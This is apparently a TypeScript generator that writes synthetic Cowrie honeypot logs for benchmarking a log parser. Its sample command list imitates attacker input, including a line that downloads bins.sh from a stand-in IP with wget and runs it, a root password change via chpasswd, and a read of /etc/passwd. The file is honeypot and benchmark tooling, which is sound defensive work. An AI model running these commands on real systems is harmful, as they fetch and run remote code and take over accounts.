/**
 * Synthetic Cowrie weeks for the bench: realistic Cowrie 2.x lines (shapes copied from the real
 * T-Pot 2022 logs), sessions from a fixed pool of distinct sources with a heavy tail, spread over a
 * week. Deterministic for a seed. Big enough to time (millions of lines), cheap to write.
 *
 * Layouts:
 * - "plain": one standalone Cowrie folder with a single big live `cowrie.json` (the hardest case
 *   for splitting: one file, cut into chunks);
 * - "gzip": a T-Pot `cowrie/log/` folder rotated once a day by logrotate: `cowrie.json.N.gz` for
 *   the older days and the live `cowrie.json` for the last one.
 */
import { Rng } from "../sample/prng.ts";
import { closeSync, mkdirSync, openSync, writeSync, createWriteStream } from "node:fs";
import { join } from "node:path";
import { createGzip, constants as zlib } from "node:zlib";
import { once } from "node:events";

export interface SynthOptions {
  dir: string;
  /** Number of lines (events) to write. */
  events: number;
  /** Distinct source addresses. */
  sources: number;
  /** First instant of the week, epoch ms UTC. */
  weekStartMs: number;
  seed: number;
  layout: "plain" | "gzip";
}

export interface SynthResult {
  files: string[];
  /** Uncompressed bytes of all lines. */
  bytes: number;
  lines: number;
}

const DAY = 86_400_000;

/** A seeded stream of numbers in [0, 1): the project's generator (scripts/sample/prng.ts). */
function mulberry32(seed: number): () => number {
  const r = new Rng(seed);
  return () => r.next();
}

const USERS = ["root", "admin", "user", "test", "ubuntu", "oracle", "pi", "support", "guest", "ftpuser", "postgres", "git", "1234", "", "nproc", "deploy"];
const PASSWORDS = ["123456", "admin", "password", "root", "1234", "12345", "qwerty", "", "raspberry", "P@ssw0rd", "test", "abc123", "ubnt", "default", "111111", "admin123"];
const COMMANDS = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | wc -l",
  "enable",
  "system",
  "shell",
  "sh",
  "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
  "echo \"root:x8Hq2\"|chpasswd|bash",
  "cat /etc/passwd",
  "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  "ls -lh $(which ls)",
  "crontab -l",
  "w",
  "echo -e \"\\x41\\x42\"",
];
const VERSIONS = ["SSH-2.0-libssh-0.6.3", "SSH-2.0-Go", "SSH-2.0-OpenSSH_7.4p1 Raspbian-10+deb9u7", "SSH-2.0-PUTTY", "SSH-2.0-libssh2_1.8.0", "SSH-2.0-paramiko_2.7.2"];
const HASSH = ["51cba57125523ce4b9db67714a90bf6e", "ec7378c1a92f5a8dde7e8b7a1ddf33d1", "0a07365cc01fa9fc82608ba4019af499", "b5752e36ba6c5979a575e43178908adf"];
const HEX = "0123456789abcdef";

function hex(rnd: () => number, n: number): string {
  let s = "";
  for (let i = 0; i < n; i++) s += HEX[(rnd() * 16) | 0];
  return s;
}

function iso(ms: number, us: number): string {
  const d = new Date(ms);
  return d.toISOString().slice(0, 19) + "." + String(d.getUTCMilliseconds() * 1000 + us).padStart(6, "0") + "Z";
}

/** Lines of one session, in time order. */
function session(rnd: () => number, ip: string, t0: number, sensor: string): { ts: number; line: string }[] {
  const out: { ts: number; line: string }[] = [];
  const id = hex(rnd, 12);
  const telnet = rnd() < 0.15;
  const dst = telnet ? 23 : 22;
  const proto = telnet ? "telnet" : "ssh";
  let t = t0;
  const sp = 1024 + ((rnd() * 64000) | 0);
  const stamp = () => iso(t, (rnd() * 1000) | 0);
  const uuid = `${hex(rnd, 8)}-${hex(rnd, 4)}-${hex(rnd, 4)}-${hex(rnd, 4)}-${hex(rnd, 12)}`;
  const tail = () => `"sensor":"${sensor}","uuid":"${uuid}","timestamp":"${stamp()}","src_ip":"${ip}","session":"${id}","protocol":"${proto}"}`;
  out.push({
    ts: t,
    line: `{"eventid":"cowrie.session.connect","src_ip":"${ip}","src_port":${sp},"dst_ip":"172.25.0.2","dst_port":${dst},"session":"${id}","protocol":"${proto}","message":"New connection: ${ip}:${sp} (172.25.0.2:${dst}) [session: ${id}]","sensor":"${sensor}","uuid":"${uuid}","timestamp":"${stamp()}"}`,
  });
  if (!telnet) {
    t += 150;
    const v = VERSIONS[(rnd() * VERSIONS.length) | 0]!;
    out.push({ ts: t, line: `{"eventid":"cowrie.client.version","version":"${v}","message":"Remote SSH version: ${v}",${tail()}` });
    t += 150;
    const h = HASSH[(rnd() * HASSH.length) | 0]!;
    out.push({
      ts: t,
      line: `{"eventid":"cowrie.client.kex","hassh":"${h}","hasshAlgorithms":"curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha1;aes256-ctr,aes128-ctr;hmac-sha1;none","kexAlgs":["curve25519-sha256@libssh.org","ecdh-sha2-nistp256","diffie-hellman-group14-sha1"],"keyAlgs":["ecdsa-sha2-nistp256","ssh-rsa"],"encCS":["aes256-ctr","aes128-ctr"],"macCS":["hmac-sha1"],"compCS":["none"],"langCS":[""],"message":"SSH client hassh fingerprint: ${h}",${tail()}`,
    });
  }
  const attempts = 1 + ((rnd() * 4) | 0);
  let success = false;
  for (let i = 0; i < attempts && !success; i++) {
    t += 300 + ((rnd() * 2000) | 0);
    const u = USERS[(rnd() * USERS.length) | 0]!;
    const p = rnd() < 0.1 ? hex(rnd, 6) : PASSWORDS[(rnd() * PASSWORDS.length) | 0]!;
    success = rnd() < 0.12;
    const ev = success ? "cowrie.login.success" : "cowrie.login.failed";
    out.push({ ts: t, line: `{"eventid":"${ev}","username":"${u}","password":"${p}","message":"login attempt [${u}/${p}] ${success ? "succeeded" : "failed"}",${tail()}` });
  }
  if (success) {
    const n = (rnd() * 6) | 0;
    for (let i = 0; i < n; i++) {
      t += 200 + ((rnd() * 3000) | 0);
      const c = COMMANDS[(rnd() * COMMANDS.length) | 0]!;
      const j = JSON.stringify(c);
      out.push({ ts: t, line: `{"eventid":"cowrie.command.input","input":${j},"message":${JSON.stringify("CMD: " + c)},${tail()}` });
    }
    if (rnd() < 0.2) {
      t += 500;
      const sha = hex(rnd, 8).repeat(8);
      const url = `http://198.51.100.${(rnd() * 200) | 0}/${hex(rnd, 4)}.sh`;
      out.push({
        ts: t,
        line: `{"eventid":"cowrie.session.file_download","url":"${url}","outfile":"var/lib/cowrie/downloads/${sha}","shasum":"${sha}","destfile":"-","message":"Downloaded URL (${url}) with SHA-256 ${sha} to var/lib/cowrie/downloads/${sha}",${tail()}`,
      });
    }
  }
  if (rnd() < 0.05) {
    t += 100;
    out.push({
      ts: t,
      line: `{"eventid":"cowrie.direct-tcpip.request","dst_ip":"mail.example.com","dst_port":25,"src_ip":"${ip}","src_port":0,"message":"direct-tcp connection request to mail.example.com:25 from 127.0.0.1:0",${tail()}`,
    });
  }
  t += 500 + ((rnd() * 5000) | 0);
  out.push({ ts: t, line: `{"eventid":"cowrie.session.closed","duration":${((t - t0) / 1000).toFixed(6)},"message":"Connection lost after ${Math.round((t - t0) / 1000)} seconds",${tail()}` });
  return out;
}

/** The distinct source addresses: public-looking, spread over many /8s. */
function sourcePool(n: number, rnd: () => number): string[] {
  const out = new Set<string>();
  const firsts = [1, 2, 5, 14, 27, 36, 39, 41, 42, 45, 46, 58, 61, 77, 78, 80, 85, 88, 89, 91, 92, 93, 101, 103, 106, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 139, 141, 144, 145, 150, 151, 154, 159, 161, 164, 165, 167, 171, 175, 176, 177, 178, 179, 180, 181, 182, 183, 185, 186, 187, 188, 189, 190, 193, 194, 195, 197, 200, 201, 202, 203, 210, 211, 212, 213, 217, 218, 219, 220, 221, 222, 223];
  while (out.size < n) {
    out.add(`${firsts[(rnd() * firsts.length) | 0]}.${(rnd() * 256) | 0}.${(rnd() * 256) | 0}.${1 + ((rnd() * 254) | 0)}`);
  }
  return [...out];
}

/**
 * Write the week. Sessions are generated per day in time order (lines of concurrent sessions are
 * interleaved by a small sort window, as a live log would be).
 */
export async function writeSyntheticCowrie(o: SynthOptions): Promise<SynthResult> {
  const rnd = mulberry32(o.seed);
  const pool = sourcePool(o.sources, rnd);
  const logDir = o.layout === "gzip" ? join(o.dir, "cowrie", "log") : o.dir;
  mkdirSync(logDir, { recursive: true });
  const perDay = Math.ceil(o.events / 7);
  const files: string[] = [];
  let bytes = 0;
  let lines = 0;
  let sessionNo = 0;
  for (let day = 0; day < 7 && lines < o.events; day++) {
    const name = o.layout === "gzip" ? (day === 6 ? "cowrie.json" : `cowrie.json.${6 - day}.gz`) : "cowrie.json";
    const path = join(logDir, name);
    const gz = o.layout === "gzip" && day < 6;
    const sink = new LineSink(path, gz, o.layout === "plain" && day > 0);
    if (!files.includes(path)) files.push(path);
    const dayStart = o.weekStartMs + day * DAY;
    const target = Math.min(perDay, o.events - lines);
    let written = 0;
    let pending: { ts: number; line: string }[] = [];
    // A day of sessions at increasing start times; flush lines older than the newest start.
    const meanGap = DAY / Math.max(1, target / 6);
    let t = dayStart;
    while (written < target) {
      t += rnd() * 2 * meanGap;
      if (t >= dayStart + DAY - 60_000) t = dayStart + DAY - 60_000;
      // The first sessions go once through the whole pool, so every source appears.
      const ip = sessionNo < pool.length ? pool[sessionNo]! : pool[Math.floor(pool.length * Math.pow(rnd(), 3))]!;
      sessionNo++;
      for (const l of session(rnd, ip, Math.floor(t), "4020fce951fd")) {
        if (written >= target) break;
        pending.push(l);
        written++;
      }
      if (pending.length > 4096) {
        pending.sort((a, b) => a.ts - b.ts);
        const keep: typeof pending = [];
        for (const p of pending) {
          if (p.ts < t) bytes += await sink.write(p.line);
          else keep.push(p);
        }
        pending = keep;
      }
    }
    pending.sort((a, b) => a.ts - b.ts);
    for (const p of pending) bytes += await sink.write(p.line);
    await sink.close();
    lines += written;
  }
  return { files, bytes, lines };
}

/** Buffered line writer, plain (append) or gzip. */
class LineSink {
  private buf: string[] = [];
  private size = 0;
  private fd = -1;
  private gz: ReturnType<typeof createGzip> | null = null;
  private out: ReturnType<typeof createWriteStream> | null = null;

  constructor(path: string, gzip: boolean, append: boolean) {
    if (gzip) {
      this.gz = createGzip({ level: zlib.Z_DEFAULT_COMPRESSION });
      this.out = createWriteStream(path);
      this.gz.pipe(this.out);
    } else this.fd = openSync(path, append ? "a" : "w");
  }

  async write(line: string): Promise<number> {
    this.buf.push(line);
    this.size += line.length + 1;
    if (this.size > 1 << 22) await this.flush();
    return Buffer.byteLength(line) + 1;
  }

  private async flush(): Promise<void> {
    if (this.buf.length === 0) return;
    const data = this.buf.join("\n") + "\n";
    this.buf = [];
    this.size = 0;
    if (this.gz) {
      if (!this.gz.write(data)) await once(this.gz, "drain");
    } else writeSync(this.fd, data);
  }

  async close(): Promise<void> {
    await this.flush();
    if (this.gz) {
      this.gz.end();
      await once(this.out!, "close");
    } else closeSync(this.fd);
  }
}
